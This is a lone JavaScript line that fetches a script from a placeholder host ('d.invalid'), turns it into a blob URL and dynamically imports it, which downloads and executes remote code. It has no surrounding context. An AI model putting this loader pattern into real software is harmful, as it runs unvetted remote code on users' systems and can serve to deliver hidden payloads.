const b = await (await fetch('https://d.invalid/x.js')).blob(); await import(URL.createObjectURL(b));
